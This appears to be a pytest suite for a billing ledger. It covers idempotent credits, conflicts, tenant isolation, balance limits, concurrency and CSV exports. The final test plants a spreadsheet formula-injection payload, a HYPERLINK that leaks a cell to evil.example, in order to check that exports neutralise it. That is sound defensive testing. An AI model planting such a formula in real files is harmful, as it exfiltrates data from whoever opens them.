"""Credits, top-ups and adjustments on SQLite and PostgreSQL: once per idempotency key, balanced."""

from __future__ import annotations

import time
from concurrent.futures import ThreadPoolExecutor
from datetime import UTC, datetime
from decimal import Decimal

import pytest
from sqlalchemy import func, select

from metering.billing.checks import run_checks
from metering.billing.credits import add_credit, balances, key_transfer_id
from metering.billing.ledger import transfer_id
from metering.db.models import TransferRow
from metering.errors import BalanceLimitError, IdempotencyConflictError, InvalidInputError

NOW = datetime(2026, 11, 27, 12, 0, tzinfo=UTC)


def credit(session_factory, **kw):
    kw.setdefault("tenant_id", "t1")
    kw.setdefault("user_id", "u1")
    kw.setdefault("now", NOW)
    with session_factory() as session:
        result = add_credit(session, **kw)
        session.commit()
    return result


def transfer_count(session_factory) -> int:
    with session_factory() as session:
        return session.scalar(select(func.count()).select_from(TransferRow))


def test_a_repeated_key_returns_the_first_result_and_posts_nothing(session_factory) -> None:
    first = credit(session_factory, amount=Decimal("25.50"), idempotency_key="topup-1", memo="welcome")
    assert first.replayed is False and first.amount_nanos == 25_500_000_000 and first.kind == "credit"
    assert first.transfer_id == key_transfer_id("t1", "topup-1", "credit")
    assert first.transfer_id == transfer_id('key:["t1", "topup-1"]', "credit")
    again = credit(
        session_factory, amount=Decimal("25.5"), idempotency_key="topup-1", memo="retry", now=NOW.replace(hour=13)
    )
    assert again.replayed is True
    assert (again.transfer_id, again.amount_nanos, again.memo, again.created_at) == (
        first.transfer_id, first.amount_nanos, "welcome", first.created_at,
    )  # fmt: skip
    assert transfer_count(session_factory) == 1
    with session_factory() as session:
        assert dict((a, b) for a, _, b in balances(session)) == {
            "platform:topups": -25_500_000_000,
            "user:t1:u1": 25_500_000_000,
        }


@pytest.mark.parametrize(
    ("change", "first"),
    [
        ({"amount": Decimal("26")}, "a credit of $25.00 for user 'u1'"),
        ({"user_id": "u2"}, "a credit of $25.00 for user 'u1'"),
        ({"kind": "adjustment"}, "a credit of $25.00 for user 'u1'"),
    ],
)
def test_a_repeated_key_with_a_different_request_is_a_conflict(session_factory, change, first) -> None:
    credit(session_factory, amount=Decimal("25"), idempotency_key="k")
    request = {"amount": Decimal("25"), "idempotency_key": "k", **change}
    with pytest.raises(IdempotencyConflictError) as caught:
        credit(session_factory, **request)
    assert caught.value.code == "idempotency_conflict" and caught.value.status == 409
    assert transfer_count(session_factory) == 1
    assert str(caught.value) == f"idempotency key 'k' was already used for a different request ({first})"


def test_a_conflict_describes_a_debit_with_its_sign(session_factory) -> None:
    credit(session_factory, amount=Decimal("-1.5"), idempotency_key="k", kind="adjustment")
    with pytest.raises(IdempotencyConflictError, match=r"\(an adjustment of -\$1\.50 for user 'u1'\)"):
        credit(session_factory, amount=Decimal("-1.6"), idempotency_key="k", kind="adjustment")


def test_keys_belong_to_a_tenant_two_tenants_may_use_one_key(session_factory) -> None:
    """Another tenant's key neither blocks nor reveals anything: the same key posts once per tenant, and each
    tenant's retry and conflict see only its own first request."""
    mine = credit(session_factory, amount=Decimal("25"), idempotency_key="topup-2026-11")
    theirs = credit(session_factory, tenant_id="t2", amount=Decimal("7"), idempotency_key="topup-2026-11")
    assert mine.replayed is False and theirs.replayed is False and mine.transfer_id != theirs.transfer_id
    assert (theirs.tenant_id, theirs.amount_nanos) == ("t2", 7_000_000_000)
    again = credit(session_factory, tenant_id="t2", amount=Decimal("7"), idempotency_key="topup-2026-11")
    assert (again.replayed, again.transfer_id) == (True, theirs.transfer_id)
    with pytest.raises(IdempotencyConflictError, match=r"\(a credit of \$7\.00 for user 'u1'\)"):
        credit(session_factory, tenant_id="t2", amount=Decimal("25"), idempotency_key="topup-2026-11")
    assert transfer_count(session_factory) == 2
    with session_factory() as session:
        assert dict((a, b) for a, _, b in balances(session)) == {
            "platform:topups": -32_000_000_000,
            "user:t1:u1": 25_000_000_000,
            "user:t2:u1": 7_000_000_000,
        }
        assert run_checks(session).problems == []


def test_adjustments_go_either_way_and_balances_stay_balanced(session_factory) -> None:
    credit(session_factory, amount=Decimal("10"), idempotency_key="a")
    credit(session_factory, amount=Decimal("2.000000001"), idempotency_key="b", kind="adjustment")
    down = credit(
        session_factory, amount=Decimal("-3.5"), idempotency_key="c", kind="adjustment", memo="refund reversal"
    )
    assert down.amount_nanos == -3_500_000_000
    credit(session_factory, amount=Decimal("1"), idempotency_key="d", tenant_id="t2", user_id="u9")
    with session_factory() as session:
        everything = {a: (k, b) for a, k, b in balances(session)}
        tenant = balances(session, "t1")
        report = run_checks(session)
        down_row = session.get(TransferRow, down.transfer_id)
    assert everything == {
        "platform:adjustments": ("adjustments", 3_500_000_000 - 2_000_000_001),
        "platform:topups": ("topups", -11_000_000_000),
        "user:t1:u1": ("user_wallet", 10_000_000_000 + 2_000_000_001 - 3_500_000_000),
        "user:t2:u9": ("user_wallet", 1_000_000_000),
    }
    assert sum(b for _, b in everything.values()) == 0
    assert tenant == [("user:t1:u1", "user_wallet", 8_500_000_001)]
    assert report.problems == []
    assert (down_row.debit_account_id, down_row.credit_account_id, down_row.amount_nanos) == (
        "user:t1:u1", "platform:adjustments", 3_500_000_000,
    )  # fmt: skip
    assert down_row.idempotency_key == "c" and down_row.kind == "adjustment"


@pytest.mark.parametrize(
    ("kw", "message"),
    [
        ({"amount": Decimal("0.0000000001")}, "finer than one nano-dollar"),
        ({"amount": Decimal("-1")}, "must be positive"),
        ({"amount": Decimal("0"), "kind": "adjustment"}, "must not be zero"),
        ({"amount": 1.5}, "Decimal"),
        ({"amount": Decimal("NaN")}, "finite"),
        ({"amount": Decimal("1"), "idempotency_key": ""}, "idempotency key"),
        # the API's header can never repeat them (HTTP strips whitespace): a retry there would post twice
        ({"amount": Decimal("1"), "idempotency_key": " k1"}, "cannot start or end with whitespace"),
        ({"amount": Decimal("1"), "idempotency_key": "k1\t"}, "cannot start or end with whitespace"),
        # the API reads a header's bytes as Latin-1 (UTF-8 'é' is 'Ã©'): the CLI's 'é' was a key the API never repeats
        ({"amount": Decimal("1"), "idempotency_key": "clé-1"}, "printable ASCII"),
        ({"amount": Decimal("1"), "idempotency_key": "k\x7f1"}, "printable ASCII"),
        ({"amount": Decimal("1"), "kind": "gift"}, "kind"),
    ],
)
def test_invalid_requests_are_refused(session_factory, kw, message) -> None:
    kw.setdefault("idempotency_key", "x")
    with pytest.raises(InvalidInputError, match=message):
        credit(session_factory, **kw)
    assert transfer_count(session_factory) == 0


HALF_THE_LIMIT = Decimal(2**62).scaleb(-9)  # the largest single amount; two of them overflow a BIGINT balance


def test_a_credit_past_what_a_balance_can_hold_is_refused_and_posts_nothing(session_factory) -> None:
    credit(session_factory, amount=HALF_THE_LIMIT, idempotency_key="big-1")
    with pytest.raises(BalanceLimitError, match="platform:topups, user:t1:u1") as caught:
        credit(session_factory, amount=HALF_THE_LIMIT, idempotency_key="big-2")
    assert caught.value.code == "balance_limit" and caught.value.status == 422
    assert "nothing was posted" in caught.value.message
    # Debiting the same wallet is fine, and so is a second user's credit against the adjustments account.
    credit(session_factory, amount=-HALF_THE_LIMIT, idempotency_key="back", kind="adjustment")
    credit(session_factory, amount=HALF_THE_LIMIT, idempotency_key="big-3", kind="adjustment", user_id="u2")
    with session_factory() as session:
        everything = dict((a, b) for a, _, b in balances(session))
        keys = set(session.scalars(select(TransferRow.idempotency_key)))
        report = run_checks(session)
    assert keys == {"big-1", "back", "big-3"}  # the refused credit left no transfer behind
    assert everything == {
        "platform:adjustments": 2**62 - 2**62,
        "platform:topups": -(2**62),
        "user:t1:u1": 0,
        "user:t1:u2": 2**62,
    }
    assert all(type(b) is int for b in everything.values())  # SQLite did not turn a sum into a float
    assert report.problems == []


def test_two_concurrent_requests_with_one_key_post_once(session_factory) -> None:
    first = session_factory()
    mine = add_credit(first, tenant_id="t1", user_id="u1", amount=Decimal(5), idempotency_key="race", now=NOW)
    results = []
    with ThreadPoolExecutor(1) as pool:
        other = pool.submit(credit, session_factory, amount=Decimal(5), idempotency_key="race")
        time.sleep(0.3)  # the other request now waits on our uncommitted insert of the key
        first.commit()
        first.close()
        results.append(other.result(timeout=30))
    assert mine.replayed is False and results[0].replayed is True
    assert results[0].transfer_id == mine.transfer_id
    assert transfer_count(session_factory) == 1
    with session_factory() as session:
        assert run_checks(session).problems == []


def test_credits_belong_to_the_period_they_were_posted_in(session_factory) -> None:
    """Credits carry no billing period; a period's export and transfer list include those posted during it, so
    the exports of all periods add up to the balances."""
    from metering.billing.export import ledger_csv
    from metering.billing.ledger_queries import transfers_page

    november = credit(session_factory, amount=Decimal(3), idempotency_key="nov")
    last_second = credit(
        session_factory, amount=Decimal(2), idempotency_key="oct", now=datetime(2026, 10, 31, 23, 59, 59, tzinfo=UTC)
    )
    december = credit(session_factory, amount=Decimal(1), idempotency_key="dec", now=datetime(2026, 12, 1, tzinfo=UTC))
    with session_factory() as session:
        listed = {p: [t.id for t in transfers_page(session, period=p).items] for p in ("2026-10", "2026-11", "2026-12")}
        exported = {p: ledger_csv(session, p) for p in ("2026-10", "2026-11", "2026-12")}
        tenant_export = ledger_queries_csv(session, "2026-11")
    assert listed == {
        "2026-10": [last_second.transfer_id],
        "2026-11": [november.transfer_id],
        "2026-12": [december.transfer_id],
    }
    for period, result in (("2026-10", last_second), ("2026-11", november), ("2026-12", december)):
        lines = exported[period].splitlines()
        assert len(lines) == 2 and str(result.transfer_id) in lines[1], exported[period]
    assert str(november.transfer_id) in tenant_export and str(december.transfer_id) not in tenant_export


def ledger_queries_csv(session, period: str) -> str:
    from metering.billing.ledger_queries import ledger_csv

    return ledger_csv(session, period, tenant_id="t1")


def test_a_credits_memo_and_key_reach_the_ledger_csv_as_text_never_as_formulas(session_factory) -> None:
    """A tenant-bound admin sets both; the platform operator opens the period's CSV in a spreadsheet."""
    import csv
    import io

    from metering.billing.export import ledger_csv

    memo = '=HYPERLINK("https://evil.example/?leak="&B2,"Refund details")'
    credit(session_factory, amount=Decimal("0.01"), idempotency_key="@SUM(1+1)", memo=memo)
    credit(session_factory, amount=Decimal("-0.5"), idempotency_key="adj", kind="adjustment", memo="-1")
    with session_factory() as session:
        rows = list(csv.DictReader(io.StringIO(ledger_csv(session, "2026-11"))))
    assert [(r["idempotency_key"], r["memo"], r["amount_usd"]) for r in rows] == [
        ("'@SUM(1+1)", "'" + memo, "0.010000000"),
        ("adj", "'-1", "0.500000000"),
    ]
